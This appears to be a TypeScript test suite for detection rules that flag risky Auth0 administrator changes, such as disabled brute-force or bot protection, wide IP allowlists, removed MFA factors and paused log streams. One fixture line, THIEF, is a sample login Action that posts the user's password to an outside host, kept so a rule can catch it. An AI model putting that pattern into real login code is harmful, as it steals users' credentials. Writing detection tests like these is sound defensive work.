import { apiCall, type CallOptions, event } from '../events.ts';
import { ruleCases } from '../rule-cases.ts';

/** The events of one call. */
const one = (call: string, more: Omit<CallOptions, 'call'> = {}) => [apiCall({ call, ...more })];

const BRUTE = 'PATCH attack-protection/brute-force-protection';
const IPS = 'PATCH attack-protection/suspicious-ip-throttling';
const LEAKS = 'PATCH attack-protection/breached-password-detection';
const BOTS = 'PATCH attack-protection/bot-detection';

ruleCases(
  'A0-ADM-01',
  [
    {
      when: 'a protection is switched off',
      events: one(BRUTE, { body: { enabled: false } }),
      about: 'user google-oauth2|alice',
      line: 'alice@example.com switched off brute-force protection from 192.0.2.7 (DE)',
    },
    {
      when: 'a program does it',
      events: one(LEAKS, { body: { enabled: false }, user: undefined, client: 'deploy' }),
      about: 'client deploy',
    },
    { when: 'no shield blocks any more', events: one(IPS, { body: { shields: [] } }) },
    {
      when: 'only the answer says so',
      events: one(IPS, { answer: { enabled: true, shields: ['admin_notification'] } }),
    },
    {
      when: 'bot detection only monitors',
      events: one(BOTS, { body: { monitoring_mode_enabled: true } }),
    },
    {
      when: 'the dashboard names the path without /api and writes in capitals',
      events: one('PATCH Attack-Protection/%62ot-detection/', { body: { enabled: 'false' } }),
    },
    {
      when: 'the status is missing',
      events: one(BRUTE, { body: { enabled: false }, status: undefined }),
    },
  ],
  [
    { when: 'it stays on', events: one(IPS, { body: { enabled: true, shields: ['block'] } }) },
    { when: 'the call failed', events: one(BRUTE, { body: { enabled: false }, status: 403 }) },
    {
      when: 'the call was redirected',
      events: one(BRUTE, { body: { enabled: false }, status: 302 }),
    },
    {
      when: 'accounts are locked instead of addresses',
      events: one(BRUTE, { body: { shields: [], mode: 'count_per_identifier' } }),
    },
    {
      when: 'it is another setting',
      events: one('PATCH tenants/settings', { body: { enabled: false } }),
    },
    { when: 'the path goes on', events: one(`${BRUTE}/x`, { body: { enabled: false } }) },
    {
      when: 'the settings are read',
      events: one(BRUTE.replace('PATCH', 'GET'), { body: { enabled: false } }),
    },
    {
      when: 'the tenant allows the user',
      events: one(BRUTE, { body: { enabled: false } }),
      settings: { allow: { ips: [], users: ['google-oauth2|alice'], clients: [] } },
    },
  ],
);

ruleCases(
  'A0-ADM-02',
  [
    { when: 'the challenge at login is off', events: one(BOTS, { answer: { policy: 'off' } }) },
    {
      when: 'the challenge at reset is never shown',
      events: one(BOTS, { body: { challenge_password_reset_policy: 'never' } }),
      line: 'alice@example.com switched off challenge_password_reset_policy from 192.0.2.7 (DE)',
    },
    {
      when: 'the dashboard does it by a path of its own',
      events: one('POST somewhere/new', {
        body: { passwordless_policy: 'off' },
        description: 'Create or update the anomaly detection captcha',
      }),
    },
  ],
  [
    {
      when: 'the challenge is shown when risky',
      events: one(BOTS, { body: { policy: 'when_risky' } }),
    },
    {
      when: 'the request turns on what the answer still has as off',
      events: one(BOTS, { body: { policy: 'always' }, answer: { policy: 'off' } }),
    },
    { when: 'the call failed', events: one(BOTS, { body: { policy: 'off' }, status: 400 }) },
    {
      when: 'another endpoint has a policy',
      events: one('PATCH branding', { body: { policy: 'off' } }),
    },
  ],
);

const KNOWN = { lists: { 'A0-ADM-03': { knownNetworks: ['198.51.100.0/24'] } } };

ruleCases(
  'A0-ADM-03',
  [
    {
      when: 'an address is added',
      events: one(IPS, { body: { allowlist: ['203.0.113.9'] } }),
      line: 'alice@example.com let 203.0.113.9 past suspicious IP throttling from 192.0.2.7 (DE)',
    },
    {
      when: 'a network as wide as a /8 is among others',
      events: one(BRUTE, { body: { allowlist: ['203.0.113.9', '10.0.0.0/8'] } }),
      severity: 'critical',
    },
    {
      when: 'an IPv6 network of a whole provider is added',
      events: one(BRUTE, { body: { allowlist: ['2001:db8::/32'] } }),
      severity: 'critical',
    },
    {
      when: 'it is wider than a known network that begins alike',
      events: one(BRUTE, { body: { allowlist: ['198.51.100.0/23'] } }),
      settings: KNOWN,
    },
    {
      when: 'it is no address at all',
      events: one(BRUTE, { body: { allowlist: ['any/thing'] } }),
      settings: KNOWN,
    },
  ],
  [
    {
      when: 'the network is known',
      events: one(IPS, { body: { allowlist: ['198.51.100.0/25', '198.51.100.7'] } }),
      settings: KNOWN,
    },
    { when: 'the list is emptied', events: one(IPS, { body: { allowlist: [] } }) },
    {
      when: 'the call failed',
      events: one(IPS, { body: { allowlist: ['203.0.113.9'] }, status: 401 }),
    },
  ],
);
ruleCases(
  'A0-ADM-03',
  [
    {
      when: 'a network is one bit narrower than a /8',
      events: one(BRUTE, { body: { allowlist: ['10.0.0.0/9'] } }),
      severity: 'high',
    },
  ],
  [],
);

ruleCases(
  'A0-ADM-04',
  [
    {
      when: 'the policy is emptied',
      events: one('PUT guardian/policies', { body: [], answer: [] }),
    },
    { when: 'only the answer is there', events: one('PUT guardian/policies', { answer: [] }) },
  ],
  [
    {
      when: 'a policy is set',
      events: one('PUT guardian/policies', { body: ['all-applications'], answer: [] }),
    },
    { when: 'the call failed', events: one('PUT guardian/policies', { body: [], status: 400 }) },
    {
      when: 'the body is no list',
      events: one('PUT guardian/policies', { body: '[]', answer: '[]' }),
    },
  ],
);

ruleCases(
  'A0-ADM-05',
  [
    {
      when: 'codes by text are switched off',
      events: one('PUT guardian/factors/sms', { body: { enabled: false } }),
    },
    {
      when: 'security keys are switched off',
      events: one('PUT guardian/factors/webauthn-roaming', { body: { enabled: false } }),
      severity: 'high',
    },
    {
      when: 'no kind of phone message is left',
      events: one('PUT guardian/factors/phone/message-types', { body: { message_types: [] } }),
    },
  ],
  [
    {
      when: 'a factor is switched on',
      events: one('PUT guardian/factors/otp', { body: { enabled: true } }),
    },
    {
      when: 'the call failed',
      events: one('PUT guardian/factors/otp', { body: { enabled: false }, status: 404 }),
    },
    {
      when: 'it is a setting of a factor',
      events: one('PUT guardian/factors/duo/settings', { body: { enabled: false } }),
    },
  ],
);

ruleCases(
  'A0-ADM-06',
  [
    {
      when: 'it is off by the older name',
      events: one('PATCH risk-assessment/config', { body: { AfterAuthentication: false } }),
    },
    {
      when: 'it is off by the newer name',
      events: one('PATCH risk-assessments/settings', { body: { enabled: false } }),
    },
  ],
  [
    {
      when: 'it is on',
      events: one('PATCH risk-assessments/settings', { body: { enabled: true } }),
    },
    {
      when: 'the call failed',
      events: one('PATCH risk-assessments/settings', { body: { enabled: false }, status: 500 }),
    },
    {
      when: 'only a span of days is set',
      events: one('PATCH risk-assessments/settings/new-device', { body: { enabled: false } }),
    },
  ],
);

ruleCases(
  'A0-ADM-10',
  [
    { when: 'a stream is deleted', events: one('DELETE log-streams/lst_1', { status: 204 }) },
    {
      when: 'a stream is paused',
      events: one('PATCH log-streams/lst_1', { body: { status: 'paused' } }),
    },
    {
      when: 'its target changes',
      events: one('PATCH log-streams/lst_1', {
        body: { sink: { httpEndpoint: 'https://example.org' } },
      }),
    },
    {
      when: 'it is filtered',
      events: one('PATCH log-streams/lst_1', { body: { filters: [{ type: 'category' }] } }),
      severity: 'high',
    },
    {
      when: 'a stream is created',
      events: one('POST log-streams', { status: 201 }),
      severity: 'medium',
    },
  ],
  [
    {
      when: 'a stream gets another name',
      events: one('PATCH log-streams/lst_1', { body: { name: 'SIEM' } }),
    },
    {
      when: 'a stream is resumed',
      events: one('PATCH log-streams/lst_1', { body: { status: 'active' } }),
    },
    { when: 'the call failed', events: one('DELETE log-streams/lst_1', { status: 404 }) },
    {
      when: 'only the answer names the target',
      events: one('PATCH log-streams/lst_1', { body: { name: 'x' }, answer: { sink: {} } }),
    },
  ],
);

/** What makes the administrator known: changes on an earlier day. */
const usual = (call: string, count = 150, more: Omit<CallOptions, 'call'> = {}) =>
  Array.from({ length: count }, (_, n) =>
    apiCall({ call, atMinutes: n - 2 * 1_440, body: { colors: {} }, ...more }),
  );

const CONNECTION = 'PATCH connections/con_1';

ruleCases(
  'A0-ADM-14',
  [
    {
      when: 'an enterprise provider is added',
      events: one('POST connections', {
        body: { name: 'partner', strategy: 'samlp' },
        status: 201,
      }),
      about: 'user google-oauth2|alice',
      line: 'alice@example.com created partner (samlp) from 192.0.2.7 (DE)',
    },
    {
      when: 'the certificate of one changes',
      events: one(CONNECTION, {
        body: { options: { signingCert: 'x' } },
        answer: { strategy: 'samlp' },
      }),
    },
    {
      when: 'a social provider is added',
      events: one('POST connections', { body: { strategy: 'github' } }),
      severity: 'medium',
    },
    {
      when: 'a database gets a login script',
      events: one(CONNECTION, {
        body: { options: { customScripts: { login: 'function' } } },
        answer: { strategy: 'auth0' },
      }),
      severity: 'medium',
    },
    {
      when: 'a connection is deleted',
      events: one('DELETE connections/con_1', { status: 204 }),
      severity: 'medium',
    },
    {
      when: 'everyday settings change',
      events: one(CONNECTION, { body: { enabled_clients: [] } }),
      severity: 'low',
    },
    {
      when: 'everyday settings are changed by somebody who never did',
      events: [...usual('PATCH branding'), ...one(CONNECTION, { body: { enabled_clients: [] } })],
      severity: 'medium',
    },
  ],
  [
    {
      when: 'the call failed',
      events: one('POST connections', { body: { strategy: 'samlp' }, status: 409 }),
    },
    {
      when: 'a connection is read',
      events: one('GET connections/con_1', { answer: { strategy: 'samlp' } }),
    },
  ],
);
const knowsConnections = [
  ...usual('PATCH branding'),
  ...one(CONNECTION, { body: { enabled_clients: [] }, atMinutes: -2_900 }),
  ...one('PATCH tenants/settings'),
];
ruleCases(
  'A0-ADM-14',
  [
    {
      when: 'somebody known to change connections did so',
      events: knowsConnections,
      severity: 'low',
    },
  ],
  [],
);

const CODE = 'exports.onExecutePostLogin = async (event, api) => {};';
const THIEF = 'fetch("https://example.org", { body: event.request.body.password })';

ruleCases(
  'A0-ADM-15',
  [
    {
      when: 'an Action is deployed',
      events: one('POST actions/actions/a1/deploy', { answer: { code: CODE } }),
      severity: 'low',
      line: 'alice@example.com deployed Action a1 from 192.0.2.7 (DE)',
    },
    {
      when: 'an Action is deployed by somebody who never did',
      events: [...usual('PATCH branding'), ...one('POST actions/actions/a1/deploy')],
      severity: 'medium',
    },
    {
      when: 'all Actions are taken out',
      events: one('PATCH actions/triggers/post-login/bindings', { body: { bindings: [] } }),
      severity: 'medium',
    },
    {
      when: 'a Rule is switched off',
      events: one('PATCH rules/rul_1', { body: { enabled: false } }),
      severity: 'medium',
    },
    {
      when: 'a Hook is deleted',
      events: one('DELETE hooks/h1', { status: 204 }),
      severity: 'medium',
    },
    {
      when: 'code reads the password',
      events: one('PATCH actions/actions/a1', { body: { code: THIEF } }),
      severity: 'high',
    },
    {
      when: 'a Rule loads code',
      events: one('POST rules', { body: { script: 'EVAL(x)' }, status: 201 }),
      severity: 'high',
    },
  ],
  [
    {
      when: 'code is only saved',
      events: one('PATCH actions/actions/a1', { body: { code: CODE } }),
    },
    {
      when: 'an Action is tried out',
      events: one('POST actions/actions/a1/test', { body: { code: THIEF } }),
    },
    { when: 'the call failed', events: one('POST actions/actions/a1/deploy', { status: 400 }) },
  ],
);

ruleCases(
  'A0-ADM-16',
  [
    {
      when: 'the signing key is rotated',
      events: one('POST keys/signing/rotate', { status: 201 }),
    },
    { when: 'a signing key is revoked', events: one('PUT keys/signing/k1/revoke') },
    {
      when: 'the tenant gets keys from outside',
      events: one('PUT keys/custom-signing', { body: { keys: [] } }),
    },
    { when: 'a wrapping key is made', events: one('POST keys/encryption/k1/wrapping-key') },
    {
      when: 'an encryption key is destroyed',
      events: [event('kms_key_state_changed', { details: { id: 'k1', state: 'destroyed' } })],
      about: 'tenant tenant',
    },
    {
      when: 'an encryption key begins its life',
      events: [event('kms_key_state_changed', { details: { id: 'k1', state: 'active' } })],
      severity: 'low',
    },
  ],
  [
    { when: 'the call failed', events: one('POST keys/signing/rotate', { status: 429 }) },
    { when: 'keys are listed', events: one('GET keys/signing') },
  ],
);

ruleCases(
  'A0-ADM-17',
  [
    {
      when: "a user's factors are removed",
      events: one('DELETE users/auth0%7Cu1/authenticators', { status: 204 }),
      line: 'alice@example.com removed all second factors of auth0|u1 from 192.0.2.7 (DE)',
    },
    {
      when: 'one way is removed',
      events: one('DELETE users/auth0|u1/authentication-methods/m%2F1'),
    },
    { when: 'an enrolment is removed', events: one('DELETE guardian/enrollments/dev_1') },
    {
      when: 'users do it themselves',
      events: one('DELETE users/google-oauth2%7Calice/authenticators'),
      severity: 'low',
    },
    { when: 'the id can not be decoded', events: one('DELETE users/%E0%A4%A/multifactor/duo') },
  ],
  [
    {
      when: 'the call failed',
      events: one('DELETE users/auth0%7Cu1/authenticators', { status: 404 }),
    },
    { when: 'a factor is added', events: one('POST users/auth0%7Cu1/authentication-methods') },
    { when: 'there is no id', events: one('DELETE users//authenticators') },
  ],
);

ruleCases(
  'A0-ADM-23',
  [
    {
      when: 'a network list changes',
      events: one('PATCH network-acls/acl_1', { body: { active: false } }),
    },
    {
      when: 'a domain is added',
      events: one('POST custom-domains', { body: { domain: 'login.example.org' } }),
    },
    { when: 'the mail provider changes', events: one('PATCH emails/provider') },
    {
      when: 'texts go through somebody else',
      events: one('PUT guardian/factors/sms/providers/twilio'),
    },
    {
      when: 'a mail template changes',
      events: one('PATCH email-templates/reset_email'),
      severity: 'low',
    },
  ],
  [
    { when: 'a domain is checked', events: one('POST custom-domains/cd_1/verify') },
    { when: 'the call failed', events: one('POST custom-domains', { status: 409 }) },
  ],
);
